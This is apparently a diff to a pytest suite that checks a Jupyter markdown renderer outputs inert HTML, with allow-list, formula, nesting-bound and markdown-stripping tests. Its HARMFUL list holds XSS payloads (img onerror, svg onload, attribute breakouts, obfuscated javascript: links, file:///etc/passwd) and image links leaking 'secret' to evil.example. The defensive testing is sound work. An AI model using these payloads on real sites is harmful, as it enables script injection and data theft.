@@ -2,12 +2,17 @@
 
 from __future__ import annotations
 
+import json
 import re
+from html import unescape
 from html.parser import HTMLParser
+from pathlib import Path
 
 import pytest
 
-from navi_jupyter.kernel.display.render import closed, defused, to_html
+from navi_jupyter.kernel.display import markdown
+from navi_jupyter.kernel.display.markdown import AS_TEXT, MAX_DEPTH, MAX_SIGNS, MAX_TEXT, is_safe, to_html
+from navi_jupyter.markdown_text import closed, defused, without_marks
 
 HARMFUL = [
     "![x](http://evil.example/?q=secret)",
@@ -33,6 +38,39 @@ HARMFUL = [
     "```a`b\n![x](http://evil.example/)",
     "```\r![x](http://evil.example/)\r```\r![y](http://evil.example/)",
     "<details ontoggle=alert(1) open>x</details>",
+    "$<img src=x onerror=alert(1)>$",
+    "$`<img src=x onerror=alert(1)>`$",
+    "$$<img src=x onerror=alert(1)>$$",
+    "$$\n<img src=x onerror=alert(1)>\n$$",
+    "\\(<img src=x onerror=alert(1)>\\)",
+    "\\[<svg/onload=alert(1)>\\]",
+    "$a < <img src=x onerror=alert(1)>$",
+    "| <img src=x onerror=alert(1)> |\n|---|\n| $<svg/onload=alert(1)>$ |",
+    '| a |\n|:-:" onmouseover=alert(1) x|\n| b |',
+    '# <img src=x onerror=alert(1)> {#x"onclick=alert(1)}',
+    '[x](http://a ""onmouseover=alert(1) y="")',
+    '[x](http://a"onmouseover=alert(1))',
+    "[<img src=x onerror=alert(1)>](http://a)",
+    "![<img src=x onerror=alert(1)>](http://a)",
+    '![x" onerror="alert(1)](http://a)',
+    '```"><img src=x onerror=alert(1)>\ncode\n```',
+    '```py" onclick=alert(1)\n<script>alert(1)</script>\n```',
+    "`<img src=x onerror=alert(1)>`",
+    "~~<img src=x onerror=alert(1)>~~",
+    "*<img src=x onerror=alert(1)>*",
+    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
+    "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML",
+    "[ruby(<img src=x onerror=alert(1)>)]",
+    ">! <img src=x onerror=alert(1)>",
+    "- [ ] <img src=x onerror=alert(1)>",
+    "[click](%6a%61vascript:alert(1))",
+    "[click](java\u200bscript:alert(1))",
+    "[click](java%0ascript:alert(1))",
+    "[click](%2541vascript:alert(1))",
+    "[click](file:///etc/passwd)",
+    "[click](blob:http://a/b)",
+    "<data:text/html,x>",
+    "<vbscript:x>",
 ]
 
 
@@ -65,6 +103,161 @@ def test_html_made_from_it_loads_and_runs_nothing(text: str) -> None:
     html = to_html(text)
     assert html is not None
     assert dangers(html) == []
+    assert not_allowed(html) == []
+
+
+ALLOWED: dict[str, str] = {
+    **dict.fromkeys(["p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6"], ""),
+    **dict.fromkeys(["em", "strong", "del", "small", "ul", "li", "pre"], ""),
+    **dict.fromkeys(["blockquote", "table", "thead", "tbody", "tr"], ""),
+    "ol": "start",
+    "code": "class",
+    "div": "class style",
+    "span": "class",
+    "a": "href target rel",
+    "th": "style",
+    "td": "style",
+}
+HREF = re.compile(r"(?:https?|mailto|ftps?|tel):|[^:]*(?:[/?#]|$)", re.IGNORECASE)
+
+
+class Allowed(HTMLParser):
+    """Collects what is not on a list of tags, attributes and schemes, and tags that do not match."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+        self._open: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found += [f"{tag} {name}" for name, _ in attrs if name not in ALLOWED.get(tag, "").split()]
+        if tag not in ALLOWED:
+            self.found.append(tag)
+        for name, value in attrs:
+            if name == "href" and not HREF.match(value or ""):
+                self.found.append(f"href={value}")
+            if name == "style" and not re.fullmatch(
+                r"text-align:\w+|white-space:pre-wrap;overflow-wrap:anywhere", value or ""
+            ):
+                self.found.append(f"style={value}")
+        if tag not in ("br", "hr"):
+            self._open.append(tag)
+
+    def handle_endtag(self, tag: str) -> None:
+        if not self._open or self._open.pop() != tag:
+            self.found.append(f"/{tag}")
+
+    def handle_comment(self, data: str) -> None:
+        self.found.append(f"comment {data}")
+
+    def handle_decl(self, decl: str) -> None:
+        self.found.append(f"declaration {decl}")
+
+    def handle_pi(self, data: str) -> None:
+        self.found.append(f"instruction {data}")
+
+
+def not_allowed(html: str) -> list[str]:
+    parser = Allowed()
+    parser.feed(html)
+    parser.close()
+    return parser.found
+
+
+@pytest.mark.parametrize("text", HARMFUL)
+def test_it_is_safe_without_the_escaping_of_mistune(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    mistune = pytest.importorskip("mistune")
+    for module in (mistune, mistune.util, mistune.renderers.html):
+        for name in ("escape", "escape_text", "safe_entity", "escape_url", "striptags"):
+            if hasattr(module, name):
+                monkeypatch.setattr(module, name, lambda value, *_: value)
+    for module in (mistune.block_parser, mistune.inline_parser):
+        monkeypatch.setattr(module, "escape_url", lambda value: value)
+    html = to_html(text)
+    assert html is not None
+    assert dangers(html) == []
+    assert not_allowed(html) == []
+
+
+@pytest.mark.parametrize(
+    "url", ["http://a", "HTTPS://a", "a/b.ipynb", "/a", "#a", "?a=b:c", "mailto:a@b", "./a:b", "a%20b"]
+)
+def test_a_link_may_lead_to_a_page_a_file_or_a_letter(url: str) -> None:
+    assert is_safe(url)
+
+
+HERE = Path(__file__).parent
+FORMULAS = json.loads((HERE / "formulas.json").read_text(encoding="utf-8"))
+HEAVY = {
+    name: "".join(part * count for part, count in parts)
+    for name, parts in json.loads((HERE / "heavy_markdown.json").read_text(encoding="utf-8")).items()
+}
+FORMULA = re.compile(r'<(span|div) class="navi-math[^>]*>\\[(\[](.*?)\\[)\]]</\1>', re.DOTALL)
+
+
+@pytest.mark.parametrize(("text", "formulas"), FORMULAS, ids=[text for text, _ in FORMULAS])
+def test_a_formula_is_told_from_money_variables_and_brackets(text: str, formulas: list[list[object]]) -> None:
+    html = to_html(text)
+    assert html is not None
+    assert [[unescape(tex), tag == "div"] for tag, tex in FORMULA.findall(html)] == formulas
+
+
+@pytest.mark.parametrize("text", [text for text, _ in FORMULAS])
+def test_a_dollar_or_backslash_that_is_no_formula_is_inert_for_a_typesetter(text: str) -> None:
+    html = to_html(text)
+    assert html is not None
+    # Typesetters look for both marks of a formula in one text: one of a single character has no two.
+    alone = re.sub(r"<span>[$\\]</span>", "", FORMULA.sub("", html))
+    assert not re.search(r"[$\\]", re.sub(r"<[^>]*>", "", alone))
+
+
+@pytest.mark.parametrize("name", HEAVY)
+def test_a_text_that_would_take_long_or_nest_deep_is_shown_within_bounds(name: str) -> None:
+    text = HEAVY[name]
+    html = to_html(text)
+    assert html is not None
+    assert not_allowed(html) == []
+    assert len(html) < 20 * len(text) + 3_000_000
+    if not set(text) <= set("*_-~` \n") and name not in ("definitions", "fences"):  # no words: a rule, or a fence
+        assert unescape(re.sub(r"<[^>]*>", "", html)).strip()
+
+
+def test_a_paragraph_with_too_many_signs_is_text_and_its_neighbours_are_markdown() -> None:
+    html = to_html(f"*one*\n\n{'*a ' * (MAX_SIGNS + 1)}\n\n**two**")
+    assert html is not None
+    assert "<em>one</em>" in html
+    assert "<strong>two</strong>" in html
+    assert html.count(AS_TEXT) == 1
+    assert html.count("*a ") >= MAX_SIGNS
+
+
+def test_a_text_that_is_too_long_is_shown_as_text() -> None:
+    html = to_html("*a* " * MAX_TEXT)
+    assert html is not None
+    assert AS_TEXT in html
+    assert "<em>" not in html
+
+
+def test_what_a_parser_cannot_read_is_shown_as_text(monkeypatch: pytest.MonkeyPatch) -> None:
+    def fails(text: str) -> list[dict[str, object]]:
+        raise RecursionError
+
+    monkeypatch.setattr(markdown, "_reader", lambda: fails)
+    html = to_html("*a* <b>")
+    assert html is not None
+    assert "*a* &lt;b&gt;" in html
+    assert AS_TEXT in html
+
+
+def test_tokens_that_nest_deeper_than_the_bound_are_text(monkeypatch: pytest.MonkeyPatch) -> None:
+    token: dict[str, object] = {"type": "text", "raw": "deep"}
+    for _ in range(100 * MAX_DEPTH):
+        token = {"type": "block_quote", "children": [token]}
+    monkeypatch.setattr(markdown, "_reader", lambda: lambda _: [token])
+    html = to_html("x")
+    assert html is not None
+    assert html.count("<blockquote>") == MAX_DEPTH
+    assert "deep" in html
 
 
 @pytest.mark.parametrize("text", HARMFUL)
@@ -97,6 +290,104 @@ def test_code_keeps_every_character_in_html() -> None:
     assert "vector&lt;int&gt;" in html
 
 
+OPEN = [
+    "a\n```py\nx = 1",
+    "a\n~~~\nx = 1",
+    "````\n```\nx\n```",
+    "```\n~~~\n```\n~~~",
+    "   ```\nx",
+    "~~~ a`b\nx",
+    "```\n    ```",
+    "<!-- a",
+    "<!--\n```\n",
+    "text\n\n<script>\nalert(1)",
+    "<pre>a",
+    "<style>\na",
+    "<?php\n",
+    "<![CDATA[\n",
+    "- a\n  ```\n  x",
+    "- a\n\n  ```\n  x\n\n  y",
+    "10. a\n    ```\n    x",
+    "- a\n\nb\n  ```\n  x",
+    "- a\n```\nx",
+    "> ```\n> x",
+    "**bold and `code",
+    "$$\nx = 1",
+    "| a | b",
+    "[a](b",
+    "a\r\n```py\r\nx",
+]
+
+
+@pytest.mark.parametrize("text", OPEN)
+def test_what_follows_a_closed_text_is_not_swallowed(text: str) -> None:
+    html = to_html(f"{closed(text)}\n\n## next")
+    assert html is not None
+    assert "<h2>next</h2>" in html
+
+
 def test_an_open_fence_is_closed() -> None:
     assert closed("a\n```py\nx = 1") == "a\n```py\nx = 1\n```"
     assert closed("a\n```py\nx = 1\n```\nb") == "a\n```py\nx = 1\n```\nb"
+    assert closed("a <!-- b --> c\n<!-- d -->") == "a <!-- b --> c\n<!-- d -->"
+    assert closed("```a`b``` c") == "```a`b``` c"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *(
+            "OPENAI_API_KEY",
+            "__init__",
+            "__a_b__ and __c__",
+            "2*3*4",
+            "a * b * c",
+            "a~b",
+            "~/x and ~/y",
+            "<T>",
+            "List<T>",
+        ),
+        *(
+            "cat x | grep y",
+            "C# and F#",
+            "#hashtag",
+            "a > b",
+            "*args and **kwargs",
+            "f(*args, **kwargs)",
+            "snake_case_name",
+        ),
+        *(
+            "_private",
+            "x_1_2",
+            "a_b_c d_e_f",
+            "**/*.py and *.txt",
+            "[1] and [x]",
+            "a[0](b c)",
+            "x = y",
+            "1 - 2",
+            "$PATH",
+        ),
+    ],
+)
+def test_a_name_keeps_its_characters_where_markdown_is_taken_away(text: str) -> None:
+    assert without_marks(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "plain"),
+    [
+        ("**bold**, _it_, *that*, ~~gone~~", "bold, it, that, gone"),
+        ("**bold _and_ more**", "bold and more"),
+        ("***both***", "both"),
+        ("**OPENAI_API_KEY** is set", "OPENAI_API_KEY is set"),
+        ("`OPENAI_API_KEY` and ``a`b``", "OPENAI_API_KEY and a`b"),
+        ("`*a*` and \\*b\\*", "*a* and *b*"),
+        ("# Head", "Head"),
+        ("> a > b", "a > b"),
+        ("[a](http://b) and ![i](u)", "a and i"),
+        ("```py\nx_1 = '*'\n```", "x_1 = '*'"),
+        ("| a | b |", "a | b"),
+    ],
+)
+def test_marks_of_markdown_are_taken_away(text: str, plain: str) -> None:
+    assert " ".join(without_marks(text).split()) == plain
